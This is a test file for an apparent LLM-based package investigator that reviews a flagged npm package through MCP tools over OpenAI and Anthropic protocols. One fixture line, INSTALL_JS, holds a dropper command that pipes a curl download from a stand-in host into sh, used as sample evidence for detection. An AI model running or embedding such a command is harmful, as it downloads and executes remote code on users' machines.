import { after, before, describe, test } from 'node:test';
import { strict as assert } from 'node:assert';
import { createAnthropicModel } from './anthropic-adapter.js';
import { investigate, SUBMIT_OPINION } from './investigator.js';
import type { InvestigationLimits, InvestigationSubject } from './investigator.js';
import { connectMcpTools } from './mcp-tools.js';
import { createOpenAiModel } from './openai-adapter.js';
import { startMcpFixture } from './test-support/mcp-fixture.js';
import type { McpFixture } from './test-support/mcp-fixture.js';
import {
  anthropicMessage,
  openAiText,
  openAiToolCalls,
  startScriptedModel,
} from './test-support/scripted-model.js';
import type { ScriptStep } from './test-support/scripted-model.js';

const FINDINGS = [{ rule: 'shell-downloader', severity: 'high', message: 'curl piped to sh in postinstall' }];
const INSTALL_JS = "require('child_process').execSync('curl -s http://dropper.invalid/x | sh')";
const SUBJECT: InvestigationSubject = {
  name: 'fixture-dropper',
  version: '2.3.1',
  integrity: 'sha512-AAAA',
  ruleVerdict: 'review',
  reason: 'curl piped to sh in postinstall',
  findings: [
    { rule: 'shell-downloader', severity: 'high', message: 'curl piped to sh in postinstall', evidence: [] },
  ],
};
const LIMITS: InvestigationLimits = { maxSteps: 6, maxTokens: 100_000, timeoutMs: 5_000 };
const REJECT = {
  decision: 'reject',
  rationale: 'downloads and runs a remote script at install',
  evidence: ['shell-downloader', 'file:install.js:1'],
};

let mcp: McpFixture;
before(async () => {
  mcp = await startMcpFixture({ findings: FINDINGS, files: { 'install.js': INSTALL_JS } });
});
after(() => mcp.close());

async function runOpenAi(script: ScriptStep[], limits: Partial<InvestigationLimits> = {}) {
  const endpoint = await startScriptedModel(script);
  const tools = await connectMcpTools({ url: mcp.url });
  try {
    const model = createOpenAiModel({
      baseUrl: `${endpoint.url}/v1`,
      model: 'gpt-test',
      apiKey: 'sk-test-key',
    });
    const record = await investigate(SUBJECT, {
      model,
      tools,
      limits: { ...LIMITS, ...limits },
      signal: new AbortController().signal,
    });
    return { record, requests: endpoint.requests };
  } finally {
    await tools.close();
    await endpoint.close();
  }
}

describe('investigator over the OpenAI chat-completions protocol', () => {
  test('tool calls reach the MCP tools, their results reach the model, and the opinion is validated', async () => {
    const { record, requests } = await runOpenAi([
      openAiToolCalls([
        { id: 'call_1', name: 'get_package_findings', args: { name: 'fixture-dropper', version: '2.3.1' } },
        {
          id: 'call_2',
          name: 'read_package_file',
          args: { name: 'fixture-dropper', version: '2.3.1', path: 'install.js' },
        },
      ]),
      openAiToolCalls([{ id: 'call_3', name: SUBMIT_OPINION, args: REJECT }]),
    ]);
    assert.equal(record.outcome, 'opinion');
    assert.deepEqual(record.opinion, REJECT);
    assert.equal(record.steps, 2);
    assert.deepEqual(record.tokens, { input: 200, output: 40, total: 240 });
    assert.equal(record.reviewer, 'llm:gpt-test');
    assert.deepEqual(
      record.toolCalls.map((c) => [c.name, c.isError]),
      [
        ['get_package_findings', false],
        ['read_package_file', false],
      ],
    );
    // The wire: path, auth, tools offered (decisions withheld, submit_opinion added).
    assert.equal(requests[0]!.path, '/v1/chat/completions');
    assert.equal(requests[0]!.headers.authorization, 'Bearer sk-test-key');
    const offered = (requests[0]!.body.tools as { function: { name: string } }[]).map((t) => t.function.name);
    assert.deepEqual(offered.sort(), ['get_package_findings', 'read_package_file', SUBMIT_OPINION].sort());
    assert.match(JSON.stringify(requests[0]!.body.messages), /fixture-dropper@2\.3\.1/);
    // The tool results are in the next request, answered by call id.
    const second = requests[1]!.body.messages as { role: string; tool_call_id?: string; content?: string }[];
    const toolMessages = second.filter((m) => m.role === 'tool');
    assert.deepEqual(
      toolMessages.map((m) => m.tool_call_id),
      ['call_1', 'call_2'],
    );
    assert.deepEqual(JSON.parse(toolMessages[0]!.content!), FINDINGS);
    assert.equal(toolMessages[1]!.content, INSTALL_JS);
    assert.deepEqual(
      mcp.calls.slice(-2).map((c) => c.name),
      ['get_package_findings', 'read_package_file'],
    );
  });

  test('a final JSON answer in a code fence is accepted', async () => {
    const { record } = await runOpenAi([openAiText('```json\n' + JSON.stringify(REJECT) + '\n```')]);
    assert.equal(record.outcome, 'opinion');
    assert.equal(record.opinion?.decision, 'reject');
  });

  test('prose instead of an opinion is malformed', async () => {
    const { record } = await runOpenAi([openAiText('Looks fine to me, approve.')]);
    assert.equal(record.outcome, 'malformed');
    assert.match(record.error!, /not a JSON object/);
  });

  test('an opinion outside the schema is malformed', async () => {
    const { record } = await runOpenAi([
      openAiToolCalls([
        { id: 'c', name: SUBMIT_OPINION, args: { decision: 'allow', rationale: 'x', evidence: [] } },
      ]),
    ]);
    assert.equal(record.outcome, 'malformed');
    assert.match(record.error!, /decision/);
  });

  test('submit_opinion arguments that are not JSON are malformed', async () => {
    const { record } = await runOpenAi([
      openAiToolCalls([{ id: 'c', name: SUBMIT_OPINION, args: '{"decision": "reject",' }]),
    ]);
    assert.equal(record.outcome, 'malformed');
    assert.match(record.error!, /not valid JSON/);
  });

  test('a refusal is recorded as refused', async () => {
    const { record } = await runOpenAi([openAiText('', { refusal: "I can't help with that." })]);
    assert.equal(record.outcome, 'refused');
    assert.match(record.error!, /can't help/);
  });

  test('a hanging endpoint times out', async () => {
    const started = Date.now();
    const { record } = await runOpenAi([{ hang: true }], { timeoutMs: 400 });
    assert.equal(record.outcome, 'timeout');
    assert.ok(Date.now() - started < 4000);
  });

  test('an HTTP error from the provider is an error outcome', async () => {
    const { record } = await runOpenAi([{ json: { error: { message: 'bad key' } }, status: 401 }]);
    assert.equal(record.outcome, 'error');
    assert.match(record.error!, /HTTP 401/);
  });

  test('a model that never stops calling tools exhausts the step budget', async () => {
    const call = openAiToolCalls([
      { id: 'c', name: 'get_package_findings', args: { name: 'x', version: '1' } },
    ]);
    const { record } = await runOpenAi([call, call, call], { maxSteps: 2 });
    assert.equal(record.outcome, 'budget');
    assert.equal(record.steps, 2);
  });

  test('the token budget stops the loop', async () => {
    const call = openAiToolCalls(
      [{ id: 'c', name: 'get_package_findings', args: { name: 'x', version: '1' } }],
      {
        in: 900,
        out: 200,
      },
    );
    const { record } = await runOpenAi([call, call], { maxTokens: 1000 });
    assert.equal(record.outcome, 'budget');
    assert.equal(record.steps, 1);
    assert.match(record.error!, /token budget/);
  });

  test('unknown and failing tools come back to the model as errors, not crashes', async () => {
    const { record, requests } = await runOpenAi([
      openAiToolCalls([
        { id: 'a', name: 'record_decision', args: { name: 'x', version: '1', decision: 'approve' } },
        { id: 'b', name: 'read_package_file', args: { name: 'x', version: '1', path: 'missing.js' } },
      ]),
      openAiToolCalls([{ id: 'c', name: SUBMIT_OPINION, args: { ...REJECT, decision: 'escalate' } }]),
    ]);
    assert.equal(record.outcome, 'opinion');
    assert.equal(record.opinion?.decision, 'escalate');
    assert.deepEqual(
      record.toolCalls.map((c) => c.isError),
      [true, true],
    );
    assert.ok(
      !mcp.calls.some((c) => c.name === 'record_decision'),
      'record_decision never reaches the server',
    );
    const tools = (requests[1]!.body.messages as { role: string; content?: string }[]).filter(
      (m) => m.role === 'tool',
    );
    assert.match(tools[0]!.content!, /unknown tool/);
    assert.match(tools[1]!.content!, /no file missing\.js/);
  });
});

describe('investigator over the Anthropic messages protocol', () => {
  async function runAnthropic(script: ScriptStep[]) {
    const endpoint = await startScriptedModel(script);
    const tools = await connectMcpTools({ url: mcp.url });
    try {
      const model = createAnthropicModel({
        baseUrl: endpoint.url,
        model: 'claude-test',
        apiKey: 'sk-ant-test',
      });
      const record = await investigate(SUBJECT, {
        model,
        tools,
        limits: LIMITS,
        signal: new AbortController().signal,
      });
      return { record, requests: endpoint.requests };
    } finally {
      await tools.close();
      await endpoint.close();
    }
  }

  test('tool_use blocks call the tools and tool_result blocks carry the results back', async () => {
    const { record, requests } = await runAnthropic([
      anthropicMessage(
        [
          { type: 'text', text: 'Reading the install script.' },
          {
            type: 'tool_use',
            id: 'toolu_1',
            name: 'read_package_file',
            input: { name: 'fixture-dropper', version: '2.3.1', path: 'install.js' },
          },
        ],
        'tool_use',
      ),
      anthropicMessage([{ type: 'text', text: JSON.stringify(REJECT) }], 'end_turn'),
    ]);
    assert.equal(record.outcome, 'opinion');
    assert.deepEqual(record.opinion, REJECT);
    assert.deepEqual(record.tokens, { input: 300, output: 60, total: 360 });
    assert.equal(requests[0]!.path, '/v1/messages');
    assert.equal(requests[0]!.headers['x-api-key'], 'sk-ant-test');
    assert.equal(requests[0]!.headers['anthropic-version'], '2023-06-01');
    assert.equal(typeof requests[0]!.body.system, 'string');
    const messages = requests[1]!.body.messages as { role: string; content: unknown }[];
    assert.equal(messages.length, 3);
    const assistant = messages[1]!.content as { type: string; id?: string }[];
    assert.deepEqual(
      assistant.map((b) => b.type),
      ['text', 'tool_use'],
    );
    const results = messages[2]!.content as { type: string; tool_use_id: string; content: string }[];
    assert.equal(messages[2]!.role, 'user');
    assert.deepEqual(results, [{ type: 'tool_result', tool_use_id: 'toolu_1', content: INSTALL_JS }]);
  });

  test('stop_reason refusal is recorded as refused', async () => {
    const { record } = await runAnthropic([
      anthropicMessage([{ type: 'text', text: 'I will not.' }], 'refusal'),
    ]);
    assert.equal(record.outcome, 'refused');
  });

  test('a submit_opinion tool_use is the final answer', async () => {
    const { record } = await runAnthropic([
      anthropicMessage(
        [
          {
            type: 'tool_use',
            id: 'toolu_9',
            name: SUBMIT_OPINION,
            input: { ...REJECT, decision: 'approve' },
          },
        ],
        'tool_use',
      ),
    ]);
    assert.equal(record.outcome, 'opinion');
    assert.equal(record.opinion?.decision, 'approve');
  });
});
